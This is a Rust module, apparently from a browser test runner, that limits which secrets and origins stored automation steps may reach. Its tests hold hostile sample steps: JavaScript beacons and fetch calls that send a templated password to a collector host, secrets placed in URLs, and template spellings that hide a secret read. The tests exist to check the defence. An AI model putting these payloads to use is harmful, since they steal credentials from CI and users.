//! What the steps an atlas holds may reach. An atlas (its edges, root entries and saved tests)
//! and an agent's answer are anyone's to edit, so besides acting on the page only
//! (`config::stored`), their steps read only the secrets the project's own config names for
//! its atlases (runner.toml's `[atlas] secrets`), and open only the atlas's own origin (its
//! root's, which a `--base-url` replaces) and the origins that config names (`[atlas]
//! origins`): an edited edge can neither read the CI's environment nor send what it reads, or
//! a page's text, anywhere else.

use serde_json::Value;

use super::AtlasError;

/// What runner.toml's `[atlas]` lets stored steps reach beyond the atlas's own origin.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Reach {
    /// The secrets stored steps may read (`[atlas] secrets`).
    pub(crate) secrets: Vec<String>,
    /// The origins stored steps may open besides the atlas's (`[atlas] origins`).
    pub(crate) origins: Vec<String>,
}

/// Why a list of stored steps that reads a secret may hold no code the page runs.
const NO_CODE: &str = "code the page runs sees all the page holds (what runner typed into it too) and may send it to any origin, so steps from an atlas that read a secret (typed, selected or compared by runner) hold no `eval`, `js` check or wait, or `route` before or after it, in any edge of the path; take that step out of the atlas's file";

impl Reach {
    /// Admits the flow or the steps `v` read from `from` (see the module), `home` being the
    /// origin of the atlas's root they start from: [`Reach::admit_all`] of that one part.
    pub(crate) fn admit(
        &self,
        v: &Value,
        home: Option<&str>,
        from: &str,
    ) -> Result<(), AtlasError> {
        self.admit_all(&[(from.to_string(), v.clone())], home)
    }

    /// Admits the parts (each a flow or steps, and where it was read) that run one after the
    /// other in one page — a root's entry, then each edge on the path — as the module says:
    /// each step reads only declared secrets, as `secrets.NAME`, and opens only the atlas's
    /// origins; no step puts a secret into a URL; and when any step reads a secret, no step of
    /// any part runs code in the page (see [`NO_CODE`]). Err: why the first that is refused is
    /// (`<from>: step 2 (`open`): ...`): [`AtlasError::Unconfigured`] for a secret
    /// `[atlas] secrets` does not name (the project's setting to add, shown),
    /// [`AtlasError::Exposed`] for a secret given to code or a URL, else
    /// [`AtlasError::Refused`].
    pub(crate) fn admit_all(
        &self,
        parts: &[(String, Value)],
        home: Option<&str>,
    ) -> Result<(), AtlasError> {
        // The first step that reads a secret (where, which), and the first that runs code.
        let mut reader: Option<(String, String)> = None;
        let mut code: Option<String> = None;
        for (from, v) in parts {
            self.admit_declared(v, from)?;
            let steps = match v {
                Value::Array(steps) => steps.as_slice(),
                other => other
                    .get("steps")
                    .and_then(Value::as_array)
                    .map_or(&[][..], Vec::as_slice),
            };
            for (i, step) in steps.iter().enumerate() {
                let key = step
                    .as_object()
                    .and_then(|m| m.keys().find(|k| *k != "name" && *k != "frame"))
                    .map_or("?", String::as_str);
                let at = format!("{from}: step {} (`{key}`)", i + 1);
                let read =
                    secrets_of(step).map_err(|why| AtlasError::Exposed(format!("{at}: {why}")))?;
                if let Some(name) = read.iter().find(|n| !self.secrets.contains(n)) {
                    return Err(AtlasError::Unconfigured(format!(
                        "{at}: {}",
                        self.undeclared(name)
                    )));
                }
                self.admit_step(step, home, &read, &at)?;
                if let (None, Some(name)) = (&reader, read.first()) {
                    reader = Some((at.clone(), name.clone()));
                }
                if code.is_none() && runs_page_code(step) {
                    code = Some(at);
                }
                if let (Some((reads, name)), Some(runs)) = (&reader, &code) {
                    return Err(AtlasError::Exposed(format!(
                        "{reads} reads the secret `{name}`, and {runs} runs code in the page: {NO_CODE}"
                    )));
                }
            }
        }
        Ok(())
    }

    /// The secrets a flow `v` declares (its `secrets`) are ones `[atlas] secrets` names.
    fn admit_declared(&self, v: &Value, from: &str) -> Result<(), AtlasError> {
        match v
            .get("secrets")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter_map(Value::as_str)
            .find(|n| !self.secrets.iter().any(|s| s == n))
        {
            Some(name) => Err(AtlasError::Unconfigured(format!(
                "{from}: `secrets`: {}",
                self.undeclared(name)
            ))),
            None => Ok(()),
        }
    }

    /// [`Reach::admit`], the refusal in words.
    pub(crate) fn admits(&self, v: &Value, home: Option<&str>, from: &str) -> Result<(), String> {
        self.admit(v, home, from).map_err(|e| e.to_string())
    }

    /// The step `step` (`at`: where, for the refusal), reading the secrets `read`: an `open`
    /// of an allowed origin, with no secret in its URL.
    fn admit_step(
        &self,
        step: &Value,
        home: Option<&str>,
        read: &[String],
        at: &str,
    ) -> Result<(), AtlasError> {
        let url = match step.get("open") {
            Some(Value::String(u)) => u.as_str(),
            Some(o) => o.get("url").and_then(Value::as_str).unwrap_or_default(),
            None => return Ok(()),
        };
        if let Some(name) = read.first() {
            return Err(AtlasError::Exposed(format!(
                "{at}: it puts the secret `{name}` into a URL: the page's code reads its URL (and the browser sends it on, in a `Referer`, in its history), so a step from an atlas gives a secret only to the page's fields; take the secret out of the URL"
            )));
        }
        let to = origin_of(url);
        let allowed = |o: &str| to.is_some() && origin_of(o) == to;
        if home.is_some_and(allowed) || self.origins.iter().any(|o| allowed(o)) {
            return Ok(());
        }
        Err(AtlasError::Refused(format!(
            "{at}: it opens `{url}`, which is not on the atlas's origin ({}) nor on one runner.toml's `[atlas] origins` names: a stored step opens only the app's pages, so nothing it reads or sends goes elsewhere",
            home.unwrap_or("none recorded")
        )))
    }

    /// Why a step that reads the secret `name` is refused, and the setting that lets it.
    pub(crate) fn undeclared(&self, name: &str) -> String {
        format!(
            "it reads the secret `{name}`, which runner.toml's `[atlas] secrets` does not name (it names {}): a step an atlas holds reads only the secrets the project declares for its atlases, as an edited atlas could otherwise read any variable of the environment; if the atlas is yours, {}",
            if self.secrets.is_empty() {
                "none".to_string()
            } else {
                self.secrets
                    .iter()
                    .map(|s| format!("`{s}`"))
                    .collect::<Vec<_>>()
                    .join(", ")
            },
            self.fix(&[name.to_string()])
        )
    }

    /// The setting that lets stored steps read the secrets `names` too: `add NAME to
    /// runner.toml: [atlas] secrets = ["A", "NAME"]`.
    pub(crate) fn fix(&self, names: &[String]) -> String {
        let all: Vec<String> = self
            .secrets
            .iter()
            .chain(names)
            .map(|s| format!("{s:?}"))
            .collect();
        format!(
            "add {} to runner.toml: [atlas] secrets = [{}]",
            names.join(", "),
            all.join(", ")
        )
    }
}

/// Why a page at `url` is not where a stored step may act, when it is not: `allowed` (the
/// atlas's origin first, then `[atlas] origins`; `None`: anywhere) holds no origin of it. A
/// page with no origin of its own (`about:blank`, the browser's error page) is no other site.
pub(crate) fn off_origin(url: &str, allowed: Option<&[String]>) -> Option<String> {
    let allowed = allowed?;
    let scheme = url
        .split_once(':')
        .map_or("", |(s, _)| s)
        .to_ascii_lowercase();
    if matches!(scheme.as_str(), "about" | "chrome-error") {
        return None;
    }
    let origin = origin_of(url);
    if origin.is_some() && allowed.iter().any(|a| origin_of(a) == origin) {
        return None;
    }
    Some(format!(
        "the page went to {}, which is not the atlas's origin ({}) nor one runner.toml's `[atlas] origins` names: a stored step acts only on the app's pages, so the replay stops and nothing of that page is read",
        origin.unwrap_or_else(|| format!("a `{scheme}:` URL")),
        allowed.first().map_or("none recorded", String::as_str)
    ))
}

/// The origin of an http(s) URL as a browser takes it: scheme and host lowercased, no user
/// info, no default port (`HTTP://u@Host:80/x` is `http://host`); `None` for anything else.
pub(crate) fn origin_of(url: &str) -> Option<String> {
    let (scheme, rest) = url.trim().split_once("://")?;
    let scheme = scheme.to_ascii_lowercase();
    if scheme != "http" && scheme != "https" {
        return None;
    }
    let authority = rest.split(['/', '?', '#', '\\']).next()?;
    let host = authority
        .rsplit_once('@')
        .map_or(authority, |(_, h)| h)
        .to_ascii_lowercase();
    let host = match (scheme.as_str(), host.rsplit_once(':')) {
        ("http", Some((h, "80"))) | ("https", Some((h, "443"))) => h.to_string(),
        _ => host,
    };
    (!host.is_empty()).then(|| format!("{scheme}://{host}"))
}

/// The secrets the templates in the strings of `v` read (`{{ secrets.X }}`, and what a
/// template makes of one: `{{ secrets.X | lower }}`, `{{ secrets.X[2:8] }}`), as the template
/// lexer tells them ([`crate::template::secrets_read`]), sorted: a flow made of recorded steps
/// declares them, so it validates and runs on its own.
pub(crate) fn referenced_secrets(v: &Value) -> Vec<String> {
    let mut secrets = Vec::new();
    each_string(v, &mut |s| {
        let read = crate::template::secrets_read(s).unwrap_or_default();
        secrets.extend(read.into_iter().flatten());
    });
    secrets.sort();
    secrets.dedup();
    secrets
}

/// The secrets the step `step` reads, sorted; Err: why it is refused when which secret a
/// template of it reads is not written there (`(secrets).PW`), or a template cannot be read.
fn secrets_of(step: &Value) -> Result<Vec<String>, String> {
    let mut secrets = Vec::new();
    let mut why = None;
    each_string(step, &mut |s| match crate::template::secrets_read(s) {
        Ok(read) if read.iter().all(Option::is_some) => secrets.extend(read.into_iter().flatten()),
        Ok(_) => {
            why.get_or_insert_with(|| "it reads `secrets` otherwise than as `secrets.NAME` (or `secrets['NAME']`): a step from an atlas names the secret it reads, as runner writes it".to_string());
        }
        Err(e) => {
            why.get_or_insert_with(|| format!("it holds a template runner cannot read: {e}"));
        }
    });
    if let Some(why) = why {
        return Err(why);
    }
    secrets.sort();
    secrets.dedup();
    Ok(secrets)
}

/// Calls `f` on each string of `v` (its maps' values, its lists' items).
fn each_string(v: &Value, f: &mut dyn FnMut(&str)) {
    match v {
        Value::String(s) => f(s),
        Value::Array(items) => items.iter().for_each(|i| each_string(i, f)),
        Value::Object(m) => m.values().for_each(|i| each_string(i, f)),
        _ => {}
    }
}

/// Whether the stored step `step` runs code in the page (see `Action::runs_page_code`); one
/// runner does not read is taken to.
fn runs_page_code(step: &Value) -> bool {
    serde_json::from_value::<crate::config::model::Step>(step.clone())
        .map_or(true, |s| s.action.runs_page_code())
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn origins_are_compared_as_a_browser_takes_them() {
        assert_eq!(
            origin_of("HTTP://u:p@Host:80/x?y").as_deref(),
            Some("http://host")
        );
        assert_eq!(
            origin_of("https://h:8443\\@evil/").as_deref(),
            Some("https://h:8443")
        );
        assert_eq!(origin_of("file:///etc/passwd"), None);
        assert_ne!(
            origin_of("http://localhost:18602/"),
            origin_of("http://127.0.0.1:18611/")
        );
    }

    /// A page is where stored steps may act when its origin is allowed (as a browser takes
    /// it), or when it has none (a fresh tab, the browser's error page); anything else is
    /// named by its origin only (its path and query may hold anything).
    #[test]
    fn a_page_off_the_allowed_origins_is_named_by_its_origin() {
        let allowed = ["http://127.0.0.1:8000".to_string()];
        let off = |u: &str| off_origin(u, Some(&allowed));
        assert_eq!(off("http://127.0.0.1:8000/b.html?x=1"), None);
        assert_eq!(off("HTTP://127.0.0.1:8000/"), None);
        assert_eq!(off("about:blank"), None);
        assert_eq!(off("chrome-error://chromewebdata/"), None);
        assert_eq!(off_origin("http://evil/", None), None);
        let e = off("http://localhost:8000/internal.html?token=abc").unwrap();
        assert!(
            e.starts_with("the page went to http://localhost:8000, which is not the atlas's origin (http://127.0.0.1:8000)"),
            "{e}"
        );
        assert!(!e.contains("token"), "{e}");
        assert!(off("file:///etc/passwd").unwrap().contains("a `file:` URL"));
        assert!(off("http://127.0.0.1:8001/").is_some());
        assert!(off_origin("http://127.0.0.1:8000/", Some(&[])).is_some());
    }

    /// D2 (attack 27): a secret stored steps read goes to the page only as runner gives it
    /// (typed, selected, compared): a list of steps that reads one holds no code the page runs
    /// (`eval`, a `js` check or wait, a `route`), before or after it, however the secret is
    /// spelled, and no step puts a secret into a URL, where the page's code reads it back.
    #[test]
    fn steps_that_read_a_secret_hold_no_page_code_and_put_none_in_a_url() {
        let reach = Reach {
            secrets: vec!["PW".into()],
            origins: Vec::new(),
        };
        let home = Some("http://127.0.0.1:8000");
        let fill = json!({"fill": {"target": "#p", "value": "{{ secrets.PW }}"}});
        let beacon = "new Image().src = 'http://localhost:18712/b?' + location.search; 1";
        for (steps, said) in [
            // (a) a `js` check or wait is code the page runs, as `eval` is.
            (
                json!([{"expect": {"js": "(new Image().src = '//x/?' + '{{ secrets.PW }}', true)"}}]),
                "f: step 1 (`expect`) reads the secret `PW`, and f: step 1 (`expect`) runs code in the page",
            ),
            (
                json!([{"wait": {"js": {"expr": "v => true", "args": "{{ secrets.PW }}"}}}]),
                "f: step 1 (`wait`) reads the secret `PW`, and f: step 1 (`wait`) runs code in the page",
            ),
            // (b) the secret spelled so that no pattern over the text sees it.
            (
                json!([fill, {"eval": "'{{ (secrets).PW }}'"}]),
                "f: step 2 (`eval`): it reads `secrets` otherwise than as `secrets.NAME`",
            ),
            (
                json!([fill, {"eval": "'{{ secrets | attr(\"PW\") }}'"}]),
                "f: step 2 (`eval`): it reads `secrets` otherwise than as `secrets.NAME`",
            ),
            // (c) put into the page by a step, read back by code that names no secret.
            (
                json!([{"open": "http://127.0.0.1:8000/?u={{ secrets.PW }}"}, {"eval": beacon}]),
                "f: step 1 (`open`): it puts the secret `PW` into a URL",
            ),
            (
                json!([fill, {"eval": beacon}]),
                "f: step 1 (`fill`) reads the secret `PW`, and f: step 2 (`eval`) runs code in the page",
            ),
            // Code that runs first may wait for the secret to be typed.
            (
                json!([{"route": {"url": "**/x", "body": "<script>1</script>"}}, fill]),
                "f: step 2 (`fill`) reads the secret `PW`, and f: step 1 (`route`) runs code in the page",
            ),
        ] {
            let Err(e) = reach.admit(&steps, home, "f") else {
                panic!("admitted: {steps}");
            };
            assert!(e.to_string().contains(said), "{steps}: {e}");
        }
        // Code with no secret, and a secret with no code, are what they were.
        let code = json!([{"eval": "1"}, {"expect": {"js": "true"}}, {"wait": {"js": "true"}}]);
        assert!(reach.admit(&code, home, "f").is_ok());
        let typed = json!([{"open": "http://127.0.0.1:8000/login"}, fill, {"click": "#go"}]);
        assert!(reach.admit(&typed, home, "f").is_ok());
    }

    #[test]
    fn stored_steps_read_the_declared_secrets_and_open_the_atlas_origins_only() {
        let reach = Reach {
            secrets: vec!["PW".into()],
            origins: vec!["https://auth.example.com".into()],
        };
        let home = Some("http://127.0.0.1:8000");
        let ok = json!({"secrets": ["PW"], "steps": [
            {"open": "http://127.0.0.1:8000/login?u=me"},
            {"open": {"url": "https://AUTH.example.com:443/o"}},
            {"fill": {"target": "#p", "value": "{{ secrets.PW }}"}},
        ]});
        assert!(reach.admit(&ok, home, "f").is_ok());
        for (flow, said) in [
            (
                json!({"steps": [{"open": "http://localhost:18602/?x={{ secrets.EXFIL }}"}]}),
                "f: step 1 (`open`): it reads the secret `EXFIL`, which runner.toml's `[atlas] secrets` does not name (it names `PW`)",
            ),
            (
                json!({"secrets": ["HOME"], "steps": []}),
                "f: `secrets`: it reads the secret `HOME`",
            ),
            (
                json!({"steps": [{"open": "http://localhost:18602/internal.html"}]}),
                "f: step 1 (`open`): it opens `http://localhost:18602/internal.html`, which is not on the atlas's origin (http://127.0.0.1:8000)",
            ),
            (
                json!([{"click": "#a"}, {"eval": "fetch('//x/?' + '{{ secrets.PW }}')"}]),
                "f: step 2 (`eval`) reads the secret `PW`, and f: step 2 (`eval`) runs code in the page",
            ),
        ] {
            let e = reach.admit(&flow, home, "f").unwrap_err().to_string();
            assert!(e.contains(said), "{flow}: {e}");
        }
        // An undeclared secret is the project's setting to add, shown as it is written; any
        // other refusal is no setting's.
        let e = reach
            .admit(
                &json!([{"fill": {"target": "#p", "value": "{{ secrets.PIN }}"}}]),
                home,
                "f",
            )
            .unwrap_err();
        assert!(matches!(e, AtlasError::Unconfigured(_)), "{e}");
        assert!(
            e.to_string().ends_with(
                "if the atlas is yours, add PIN to runner.toml: [atlas] secrets = [\"PW\", \"PIN\"]"
            ),
            "{e}"
        );
        let e = reach
            .admit(&json!([{"eval": "'{{ secrets.PW }}'"}]), home, "f")
            .unwrap_err();
        assert!(matches!(e, AtlasError::Exposed(_)), "{e}");
        // With no atlas origin known, only the named ones.
        assert!(
            Reach::default()
                .admit(&json!([{"open": "http://127.0.0.1:8000/"}]), None, "f")
                .is_err()
        );
    }
}
